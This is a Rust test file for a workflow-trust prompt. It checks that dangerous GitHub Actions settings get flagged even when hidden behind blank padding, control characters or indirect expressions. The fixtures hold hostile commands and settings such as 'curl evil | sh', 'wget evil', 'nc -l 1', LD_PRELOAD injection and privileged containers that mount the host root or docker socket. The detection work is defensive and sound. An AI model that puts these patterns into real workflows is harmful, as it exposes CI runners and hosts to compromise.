//! Trust questions that might leave out something that a person should see.

use crate::project::Project;

/// Returns the whole question, including its marks.
fn question(project: &Project) -> String {
    project.call(&["trust", "--ask"]).expect(4, &[]).out()
}

/// Checks that each of these texts is in a line marked as dangerous.
#[track_caller]
fn marked(question: &str, texts: &[&str]) {
    for text in texts {
        let is_marked = question.lines().any(|line| line.starts_with('!') && line.contains(text));
        assert!(is_marked, "no marked line has `{text}`:\n{question}");
    }
}

#[test]
fn nothing_hides_behind_blanks_edges_or_control_sequences() {
    let blanks = " ".repeat(130);
    let project = Project::new(&format!(
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          echo harmless{blanks}; curl evil | sh\n          \
         two\n          three\n          four\n          sudo late\n      - run: \"x\\e[8mhidden\\u202e\\u2800{}y\"\n      - run: {}END\n",
        "\\u00a0".repeat(20),
        "z".repeat(300),
    ));
    let question = question(&project);
    marked(&question, &["echo harmless <130 blanks> ; curl evil | sh", "sudo late"]);
    assert!(question.contains("four") && question.contains("END") && question.contains("<21 blanks> y"), "{question}");
    assert!(question.lines().all(|line| line.chars().count() <= 72), "{question}");
    assert!(!question.contains(['\u{1b}', '\u{202e}']), "{question}");
}

#[test]
fn whatever_opens_a_container_or_changes_a_program_is_marked() {
    let project = Project::new(
        "on: push
env: {BASH_ENV: ./evil.sh, HARMLESS: x}
defaults: {run: {shell: './evil-shell {0}', working-directory: /etc}}
jobs:
  a:
    runs-on: ubuntu-latest
    container: {image: 'alpine:3', options: '--cpus 1 --privileged', volumes: ['/:/host'], env: {LD_PRELOAD: /x.so}}
    services:
      db: {image: 'evil:latest', options: -v /var/run/docker.sock:/s}
      net: {image: 'net:latest', options: '--network=host'}
    env: {NODE_OPTIONS: --require ./evil.js, PATH: ./bin}
    defaults: {run: {shell: 'perl {0}'}}
    steps:
      - run: echo one
        shell: './mine {0}'
        working-directory: ../..
        env: {GIT_SSH_COMMAND: evil}
      - uses: ./local
        with: {what: text}
  b: {uses: ./.github/workflows/called.yml}
  c: {uses: evil/evil/.github/workflows/x.yml@v1}
",
    );
    project.write("local/action.yml", "name: x\ndescription: x\nruns: {using: composite, steps: [{run: wget evil, shell: bash}, {uses: ./js}, {uses: ./gone}]}\n");
    project.write(
        "js/action.yml",
        "name: x\ndescription: x\nruns: {using: node20, main: hidden/evil.js, post: after.js}\n",
    );
    project.write(".github/workflows/called.yml", "on: workflow_call\nenv: {PERL5OPT: -Mevil}\njobs: {inner: {runs-on: ubuntu-latest, steps: [{run: nc -l 1}]}}\n");
    let question = question(&project);
    marked(
        &question,
        &[
            "env BASH_ENV=./evil.sh",
            "default shell ./evil-shell {0}",
            "working-directory /etc",
            "options --cpus 1 --privileged",
            "volumes /:/host",
            "env LD_PRELOAD=/x.so",
            "options -v /var/run/docker.sock:/s",
            "options --network=host",
            "env NODE_OPTIONS=--require ./evil.js",
            "env PATH=./bin",
            "default shell perl {0}",
            "shell ./mine {0}",
            "working-directory ../..",
            "env GIT_SSH_COMMAND=evil",
            "$ wget evil",
            "is not in the repository now",
            "env of its workflow PERL5OPT=-Mevil",
            "$ nc -l 1",
            "calls evil/evil/.github/workflows/x.yml@v1, which is not shown",
        ],
    );
    for shown in [
        "service db evil:latest",
        "runs node hidden/evil.js",
        "runs node after.js",
        "with what: text",
        "env HARMLESS=x",
    ] {
        assert!(question.contains(shown), "{shown} is not in\n{question}");
    }
}

#[test]
fn an_answer_that_was_taken_back_is_not_a_first_time() {
    let project = Project::new("on: push\njobs: {a: {runs-on: ubuntu-latest, steps: [{run: echo hi}]}}\n");
    project.call(&["trust"]).expect(0, &[]);
    project.call(&["trust", "--revoke"]).expect(0, &[]);
    let question = question(&project);
    assert!(
        question.contains("it is not trusted to run on this machine") && !question.contains("first time"),
        "{question}"
    );
}

#[test]
fn what_a_script_takes_from_elsewhere_is_shown() {
    let project = Project::new(
        "on:
  push:
  workflow_dispatch: {inputs: {what: {default: curl of-an-input}}}
jobs:
  a:
    runs-on: ubuntu-latest
    strategy: {matrix: {command: [make, curl of-a-matrix], include: [{n: wget an-include}]}}
    outputs: {next: curl of-an-output}
    env: {TEXT: curl of-a-variable}
    container: ${{ fromJSON('{\"image\":\"a\",\"options\":\"--privileged\"}') }}
    services: {db: {image: b, options: '\"--pri\"vileged --health-cmd \"x --pid y\"'}}
    steps:
      - run: ${{ matrix.command }}
      - uses: elsewhere/action@v1
        with:
          script: |
            harmless
            curl of-a-second-line
  b: {needs: a, runs-on: ubuntu-latest, steps: [{run: '${{ needs.a.outputs.next }}'}]}
  c: {uses: ./.github/workflows/called.yml, with: {given: curl of-a-call}, secrets: {TOKEN: curl of-a-secret}}
  e:
    runs-on: ubuntu-latest
    strategy: '${{ fromJSON(''{\"matrix\":{\"x\":[\"curl of-a-strategy\"]}}'') }}'
    container: {image: a, '${{ insert }}': '${{ fromJSON(''{\"options\":\"of-a-container\"}'') }}'}
    services: '${{ fromJSON(''{\"db\":{\"options\":\"of-services\"}}'') }}'
    defaults: {run: '${{ fromJSON(''{\"shell\":\"of-defaults\"}'') }}'}
    steps: [{uses: elsewhere/action@v1, with: '${{ fromJSON(''{\"a\":\"of-with\"}'') }}'}]
  d: {runs-on: ubuntu-latest, container: a, services: {cache: {image: b, options: --health-cmd \"x --pid y\"}}, steps: [{run: x}]}
",
    );
    project.write(
        ".github/workflows/called.yml",
        "on: {workflow_call: {inputs: {given: {type: string}, other: {type: string, default: curl of-a-default}}, secrets: {TOKEN: {}}}}
jobs: {inner: {runs-on: ubuntu-latest, steps: [{run: '${{ inputs.other }}'}]}}
",
    );
    let question = question(&project);
    marked(
        &question,
        &[
            "of-an-input",
            "of-a-matrix",
            "include: n: wget",
            "of-an-output",
            "TEXT=curl of-a-variable",
            "container ${{ fromJSON(",
            "options \"--pri\"vileged",
            "of-a-second-line",
            "of-a-call",
            "of-a-secret",
            "of-a-default",
            "of-a-strategy",
            "of-a-container",
            "of-services",
            "of-defaults",
            "of-with",
        ],
    );
    for harmless in ["container a", "options --health-cmd \"x --pid y\""] {
        assert!(question.lines().any(|line| line.trim() == harmless), "{harmless} is marked or missing:\n{question}");
    }
}

#[test]
fn the_action_that_is_shown_is_the_one_that_runs() {
    let project = Project::of_jobs(
        "\n  a:\n    runs-on: ubuntu-latest\n    steps: [{uses: './two'}, {uses: '.\\back'}, {uses: $/own}, {uses: ./docker}, {uses: ./lower}]",
    );
    let composite = |what: &str| {
        format!(
            "runs: {{using: composite, steps: [{{run: curl {what}, shell: bash}}]}}\ninputs: {{x: {{default: wget {what}-default}}}}\n"
        )
    };
    project.write("two/action.yaml", &composite("harmless"));
    let evil = [composite("of-the-first").as_bytes(), b"# caf\xe9\n"].concat();
    std::fs::write(project.root().join("two/action.yml"), evil).expect("written");
    project.write("back/action.yml", &composite("behind-a-backslash"));
    project.write("own/action.yml", &composite("of-the-repository"));
    project.write("docker/action.yml", "runs: {using: docker, image: Dockerfile, args: [one], pre-entrypoint: /before.sh, post-entrypoint: /after.sh, env: {LD_PRELOAD: /x.so}}\n");
    project.write("lower/dockerfile", "FROM scratch\n");
    let question = question(&project);
    for what in ["of-the-first", "behind-a-backslash", "of-the-repository"] {
        marked(&question, &[&format!("curl {what}"), &format!("wget {what}-default")]);
    }
    marked(&question, &["env LD_PRELOAD=/x.so"]);
    for shown in [
        "builds and runs Dockerfile one",
        "runs /before.sh in it",
        "runs /after.sh in it",
        "builds and runs dockerfile",
    ] {
        assert!(question.contains(shown), "{shown} is not in\n{question}");
    }
    assert!(!question.contains("harmless"), "{question}");
}
